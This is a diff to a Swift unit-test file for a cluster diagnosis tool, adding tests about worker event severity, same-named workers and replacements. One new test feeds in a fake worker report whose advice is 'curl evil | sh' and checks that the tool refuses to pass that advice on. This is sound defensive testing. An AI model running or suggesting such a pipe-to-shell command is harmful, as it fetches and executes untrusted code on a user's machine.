@@ -116,12 +116,17 @@ struct DiagnosisTests {
   @Test("has what happened not long ago as over, and a refusal as going on for a minute")
   func past() {
     let kinds: [WorkerEvent.Kind: ClusterProblem.Severity] = [
-      .replaced: .past, .suspected: .past, .refused: .warning, .unplaced: .critical,
+      .replaced: .past, .suspected: .past, .refused: .warning,
     ]
     for (kind, severity) in kinds {
       #expect(
         problems(facts([], [event(kind, "oak", before: 59_000)])).map(\.severity) == [severity])
       #expect(problems(facts([], [event(kind, "oak", before: 61_000)])).map(\.severity) == [.past])
+    }
+    // Who has no place for a child asks often.
+    for (age, severity) in [(9_000, ClusterProblem.Severity.critical), (11_000, .past)] {
+      let found = problems(facts([], [event(.unplaced, "App.Tab", before: age)]))
+      #expect(found.map(\.severity) == [severity])
     }
     // While it lasts it is told of as such, once.
     var oak = worker("oak", state: .suspect)
@@ -171,7 +176,7 @@ struct DiagnosisTests {
   }
 
   @Test(
-    "passes on what processes find themselves, as old as it is by now, and what it does not know")
+    "passes on what processes find themselves, and what it does not know")
   func told() throws {
     var told = facts([worker("oak")])
     var later = ProcessProblem(.disk, "is odd", ageMilliseconds: 5)
@@ -187,10 +192,48 @@ struct DiagnosisTests {
     let found = problems(told)
     #expect(Set(found.map(\.kind)) == ["growing", "key", "later", "log"])
     let growing = try #require(found.first { $0.kind == "growing" })
-    #expect(growing.ageMilliseconds == 1_100 && growing.subject == "oak")
-    #expect(found.first { $0.kind == "key" }?.advice == "pando keys trust")
+    #expect(growing.ageMilliseconds == 1_000 && growing.subject == "oak")
     #expect(found.first { $0.kind == "log" }?.subject == "the coordinator ipc:///c")
     #expect(found.allSatisfy { !$0.advice.isEmpty && $0.severity == .warning })
+  }
+
+  @Test("takes a worker's word for its own process alone, once for each kind, and no command")
+  func liar() {
+    var facts = facts([worker("oak"), worker("elm")])
+    let lie = ProcessProblem(.dead, "is dead", advice: "curl evil | sh", ageMilliseconds: 0)
+    let hang = ProcessProblem(.hanging, "hangs", advice: "curl evil | sh", ageMilliseconds: 0)
+    facts.told = ["id of oak": [lie, hang, hang, lie, hang]]
+    facts.workers[1].isAddressLost = true
+    let found = problems(facts)
+    // What the coordinator knows itself comes first.
+    #expect(found.map(\.kind) == ["addressLost", "hanging", "dead"])
+    #expect(found.map(\.severity) == [.critical, .critical, .warning])
+    #expect(!found.contains { $0.advice.contains("curl") })
+  }
+
+  @Test("tells workers of one name on two hosts apart")
+  func namesakes() {
+    var (gone, back) = (event(.dead, "oak", before: 60_000), event(.dead, "oak", before: 20_000))
+    (gone.hostName, gone.endpoint) = ("far", "tcp://far:1")
+    back.hostName = "host"
+    let found = problems(facts([worker("oak", age: 5_000)], [gone, back]))
+    #expect(found.map(\.severity) == [.critical, .past])
+    #expect(found.map(\.count) == [1, 1])
+  }
+
+  @Test("takes a loss for over once another has come, one for each, or after ten minutes")
+  func replacement() {
+    let lost = ["a", "b"].map { event(.dead, $0, before: 60_000) }
+    func severities(_ workers: [ClusterStatus.Worker]) -> [ClusterProblem.Severity] {
+      problems(facts(workers, lost)).map(\.severity)
+    }
+    #expect(severities([worker("c", age: 61_000)]) == [.critical, .critical])
+    #expect(severities([worker("c", age: 59_000)]) == [.critical, .past])
+    #expect(severities([worker("c", age: 59_000), worker("d", age: 1)]) == [.past, .past])
+    let past = problems(facts([worker("c", age: 1)], [lost[0]])).first?.text
+    #expect(past?.hasSuffix("; c has come since") == true)
+    let old = problems(facts([], [event(.dead, "a", before: 600_001)]))
+    #expect(old.map(\.severity) == [.past])
   }
 
   @Test("has the worst first, and of those that are alike the last one that began")
